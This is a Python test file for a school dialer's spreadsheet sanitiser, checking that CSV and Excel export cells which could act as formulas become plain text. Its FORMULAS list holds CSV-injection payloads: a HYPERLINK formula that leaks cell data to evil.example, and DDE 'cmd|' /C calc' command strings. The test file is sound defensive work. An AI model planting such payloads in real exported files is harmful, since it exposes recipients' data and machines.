"""No cell runs as a formula, and numbers stay numbers."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from school_dialer.base.bounds import spreadsheet

FORMULAS = (
	"=1+1",
	'=HYPERLINK("http://evil.example?x="&A1,"Click")',
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	"＝1+1",
	"+A1",
	"-A1",
	"+1=1",
	"+1-2",
	"-3",
	"-1,200.00",
	'=1\n"=2',
)
FIGURES = ("+13125550142", "+1 ••• ••• ••42", "+44 20 7946 0018", "(312) 555-0142", "-", "12")
NAMES = (
	"O'Brien",
	"Müller & Söhne",
	"Ana, the elder",
	'Anna "Ann" Lee',
	"a=b",
	"x@school.example",
	"two\nlines",
	"",
)


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_becomes_a_text(cell):
	assert spreadsheet.harmless(cell) == "'" + cell


@pytest.mark.parametrize("cell", FIGURES + NAMES)
def test_numbers_and_names_stay(cell):
	assert spreadsheet.harmless(cell) == cell


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("quoting", [csv.QUOTE_NONNUMERIC, csv.QUOTE_MINIMAL, csv.QUOTE_ALL])
def test_a_file_keeps_all_but_its_formulas(delimiter, quoting):
	rows = [["Sr", "Name", "Number"], *([i, cell, 1.5] for i, cell in enumerate(FORMULAS + FIGURES + NAMES))]
	content = written(rows, delimiter, quoting)
	clean = spreadsheet.csv_file(content, delimiter)
	numbers = () if quoting == csv.QUOTE_ALL else ("-3",)
	assert read(clean, delimiter) == [
		[cell if cell in numbers and quoting == csv.QUOTE_MINIMAL else as_text(cell) for cell in row]
		for row in rows
	]
	assert spreadsheet.csv_file(clean, delimiter) == clean


def as_text(cell: object) -> str:
	return spreadsheet.harmless(cell) if isinstance(cell, str) else str(cell)


CELLS = st.text(alphabet="=+-@\t ab1,;\"'\n", max_size=12)


@given(st.lists(st.lists(CELLS, min_size=2, max_size=4), min_size=1, max_size=5))
def test_any_file_is_clean_afterwards(rows):
	found = read(spreadsheet.csv_file(written(rows, ",", csv.QUOTE_ALL)), ",")
	assert found == [[spreadsheet.harmless(cell) for cell in row] for row in rows]


def test_a_file_without_formulas_is_the_same_byte_for_byte():
	content = written(
		[["Name", "Number"], ["O'Brien", "+13125550142"], ["", -3.5]], ",", csv.QUOTE_NONNUMERIC
	)
	assert spreadsheet.csv_file(content) == content


def test_a_workbook_has_no_formula():
	openpyxl = pytest.importorskip("openpyxl")
	book = openpyxl.Workbook(write_only=True)
	sheet = book.create_sheet("Recipients")
	for cell in (*FORMULAS[:2], *FIGURES, *NAMES):
		sheet.append([cell, 3])
	out = io.BytesIO()
	book.save(out)
	cells = openpyxl.load_workbook(io.BytesIO(spreadsheet.workbook(out.getvalue()))).active
	assert [row[0].data_type for row in cells.iter_rows()].count("f") == 0
	assert [row[0].value or "" for row in cells.iter_rows()] == ["'" + one for one in FORMULAS[:2]] + [
		*FIGURES,
		*NAMES,
	]
	assert {row[1].value for row in cells.iter_rows()} == {3}


def written(rows: list[list], delimiter: str, quoting: int) -> str:
	out = io.StringIO()
	csv.writer(out, delimiter=delimiter, quoting=quoting).writerows(rows)
	return out.getvalue()


def read(content: str, delimiter: str) -> list[list[str]]:
	return list(csv.reader(io.StringIO(content, newline=""), delimiter=delimiter))
